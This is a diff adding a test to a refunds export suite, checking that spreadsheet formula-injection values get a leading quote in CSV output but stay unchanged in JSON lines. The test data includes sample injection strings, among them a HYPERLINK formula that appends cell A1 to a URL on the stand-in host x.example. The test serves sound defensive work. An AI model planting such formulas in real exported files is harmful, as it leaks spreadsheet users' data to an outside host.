@@ -108,6 +108,37 @@ describe('refunds export', () => {
     expect(run.stderr).toBe('Exported 5 refunds\n');
   });
 
+  it('given values a spreadsheet would run as formulas, when exported as CSV, then each gets a leading quote (OWASP), in every column; JSON lines keep them as they are', async () => {
+    const formulas = [
+      '=HYPERLINK("http://x.example/?"&A1,"details")',
+      '+1+2',
+      '-2+3',
+      '@SUM(1)',
+      '\tindented',
+      '\r=1+1',
+    ];
+    for (const [n, reason] of formulas.entries()) await request(n, { reason });
+    await request(6, { outRefundNo: '-R6', outTradeNo: '@T6', reason: 'a -1 inside is fine' });
+
+    const csv = await exported(['--format', 'csv']);
+    const jsonl = await exported(['--format', 'jsonl']);
+
+    const [, ...rows] = parseCsv(csv.stdout);
+    const column = (name: (typeof exportColumns)[number]) => exportColumns.indexOf(name);
+    expect(rows.map((row) => row[column('reason')])).toEqual([
+      ...formulas.map((reason) => `'${reason}`),
+      'a -1 inside is fine',
+    ]);
+    expect(rows[6]![column('outRefundNo')]).toBe("'-R6");
+    expect(rows[6]![column('outTradeNo')]).toBe("'@T6");
+    expect(rows[6]![column('refundFee')]).toBe('1990');
+    const lines = jsonLines(jsonl.stdout).map((row) =>
+      z.object({ outRefundNo: z.string(), reason: z.string() }).parse(row),
+    );
+    expect(lines.map((row) => row.reason)).toEqual([...formulas, 'a -1 inside is fine']);
+    expect(lines[6]!.outRefundNo).toBe('-R6');
+  });
+
   it('given --bom, then the CSV starts with the UTF-8 byte order mark (for Excel)', async () => {
     await request(1);
 
